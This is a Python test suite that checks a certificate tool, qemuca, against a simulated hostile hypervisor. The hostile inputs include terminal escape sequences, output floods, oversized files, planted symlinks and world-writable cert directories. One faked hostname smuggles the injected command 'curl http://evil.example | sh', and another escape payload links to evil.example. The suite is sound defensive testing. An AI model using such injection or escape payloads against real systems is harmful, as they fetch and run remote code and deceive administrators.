"""A hostile hypervisor: what it prints and the files it holds never reach the admin's
terminal raw, never fill the admin's memory, and never become a name qemuca trusts.

Each fake host gets its misbehaviour from a bind mount inside its own mount namespace
(a `hostname` that prints escape codes, or 300 MB of NULs; a 300 MB sparse ca-cert.pem),
then the real `qemuca verify` runs against it over real SSH, as an admin would.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from tests.support.pki import QEMUCA, clean_env, make_store, run_qemuca

pytestmark = pytest.mark.sshd

ESCAPES = "\x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\ [bold]x[/bold] \x1b[2J\x9b31m"


def fake_program(host, path: str, script: str) -> None:
    """Replace `path` inside the host only (its private mount namespace)."""
    host.write(f"/tmp/fake-{os.path.basename(path)}", "#!/bin/sh\n" + script, 0o755)
    host.run(["mount", "--bind", f"/tmp/fake-{os.path.basename(path)}", path])


def ssh(fleet):
    return ["--ssh-config", str(fleet.ssh_config), "--known-hosts", str(fleet.known_hosts)]


# Runs a command as its only child and prints that child's peak RSS (KiB) on the last
# line of stderr: RUSAGE_CHILDREN of the test process would count every earlier child.
PEAK_RSS = ("import resource, subprocess, sys\n"
            "p = subprocess.run(sys.argv[1:])\n"
            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
            "sys.exit(p.returncode)\n")


def run_measured(home, *args):
    """run_qemuca, plus the peak RSS (MiB) of that one qemuca process."""
    cmd = [sys.executable, "-c", PEAK_RSS, *QEMUCA, "--home", str(home), *map(str, args)]
    proc = subprocess.run(cmd, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=300,
                          env=clean_env(None))
    *err, peak = proc.stderr.splitlines() or ["0"]
    return subprocess.CompletedProcess(cmd, proc.returncode, proc.stdout, "\n".join(err)), int(peak) / 1024


@pytest.fixture
def deployed(fleet_factory, tmp_path):
    fleet = fleet_factory(3)
    home = make_store(tmp_path)
    proc = run_qemuca(home, "deploy", *fleet.names, "--issue", *ssh(fleet), "--json")
    assert proc.returncode == 0, proc.stderr
    return home, fleet


def test_escape_codes_and_markup_from_a_host_are_shown_as_text(deployed):
    home, fleet = deployed
    host = fleet[0]
    fake_program(host, "/usr/bin/hostname", f"printf '%s\\n' '{ESCAPES}'\n"
                                            f"printf '%s\\n' '{ESCAPES}' >&2\nexit 0\n")
    table = run_qemuca(home, "verify", host.name, *ssh(fleet), env={"COLUMNS": "200"})
    assert table.returncode == 1, table.stdout + table.stderr
    for out in (table.stdout, table.stderr):
        assert not any(c in out for c in "\x1b\x9b\x07"), repr(out)
    assert "\\x1b]8;;https://evil.example" in table.stdout  # shown, escaped, not as a live link
    assert "[bold]x[/bold]" in table.stdout  # markup shown as typed
    proc = run_qemuca(home, "verify", host.name, *ssh(fleet), "--json")
    name_check = next(c for c in json.loads(proc.stdout)[0]["checks"] if c["check"] == "host name")
    assert "not a host name" in name_check["detail"], name_check
    assert "\x1b" not in name_check["detail"]


@pytest.mark.parametrize("attack", ["hostname-floods", "huge-sparse-bundle"])
def test_unbounded_output_and_files_are_refused_in_bounded_memory(deployed, attack):
    home, fleet = deployed
    host = fleet[1]
    if attack == "hostname-floods":
        fake_program(host, "/usr/bin/hostname", "head -c 300000000 /dev/zero\n")
        needle = "hostname printed more than 1048576 bytes"
    else:
        host.run(["truncate", "-s", "300M", "/etc/pki/qemu/ca-cert.pem"])  # through the links
        needle = "file ca-cert.pem: /etc/pki/qemu/ca-cert.pem: cannot read it"
    proc, peak_mib = run_measured(home, "verify", host.name, *ssh(fleet), "--json")
    assert "Traceback" not in proc.stderr, proc.stderr
    report = json.loads(proc.stdout)[0]
    texts = [f'{c["check"]}: {c["detail"]}' for c in report["checks"]] + [report.get("error") or ""]
    assert any(needle in t and ("too large" in t or "printed" in t) for t in texts), texts
    assert proc.returncode != 0
    # The run never held the 300 MB: its peak stays far below (about 100 MB for Python).
    assert peak_mib < 250, peak_mib


def test_a_hostname_that_is_not_a_name_is_never_suggested_in_a_command(deployed):
    home, fleet = deployed
    host = fleet[2]
    fake_program(host, "/usr/bin/hostname", "echo 'hv1; curl http://evil.example | sh'\n")
    proc = run_qemuca(home, "verify", host.name, *ssh(fleet), "--json")
    report = json.loads(proc.stdout)[0]
    name_check = next(c for c in report["checks"] if c["check"] == "host name")
    assert name_check["result"] != "pass" and "not a host name" in name_check["detail"], name_check
    for c in report["checks"]:
        assert "curl" not in (c.get("fix") or ""), c


@pytest.mark.parametrize("plant", ["dir-0777", "dir-sticky-1777", "dir-owned-by-user", "parent-0777",
                                   "key-link-to-shadow"])
def test_insecure_or_planted_cert_dirs_are_refused_before_anything_is_copied(fleet_factory, tmp_path, plant):
    """Whoever can write the cert dir (or a directory above it) can swap the links QEMU
    follows; a planted link would make qemuca copy a root-only file into a set QEMU's
    group can read. deploy and enroll refuse both, even with --force, and write nothing."""
    fleet = fleet_factory(1)
    host = fleet[0]
    host.write("/etc/secret-root-only", "root's secret\n", 0o600)
    cert_dir = host.path("/etc/pki/qemu")
    cert_dir.mkdir(parents=True)
    if plant == "dir-0777":
        os.chmod(cert_dir, 0o777)
    elif plant == "dir-sticky-1777":  # sticky protects root's names, not the names others add
        os.chmod(cert_dir, 0o1777)
    elif plant == "dir-owned-by-user":
        os.chown(cert_dir, 1001, 1001)
    elif plant == "parent-0777":
        os.chmod(cert_dir.parent, 0o777)
    else:
        os.symlink("/etc/secret-root-only", cert_dir / "server-key.pem")
    before = sorted(p.name for p in cert_dir.iterdir())
    for command in (["deploy", "--issue"], ["enroll"]):
        home = make_store(tmp_path / command[0])
        proc = run_qemuca(home, *command, host.name, "--force", *ssh(fleet), "--json")
        assert proc.returncode == 1, proc.stdout + proc.stderr
        error = json.loads(proc.stdout)[0]["error"]
        want = "link leading out of /etc/pki/qemu" if plant == "key-link-to-shadow" else "anyone who can write there"
        assert want in error, error
        assert sorted(p.name for p in cert_dir.iterdir()) == before  # nothing placed, no .qemuca
    found = subprocess.run(["grep", "-rl", "root's secret", str(cert_dir)], capture_output=True, text=True)
    assert found.stdout.strip() in ("", str(cert_dir / "server-key.pem")), found.stdout
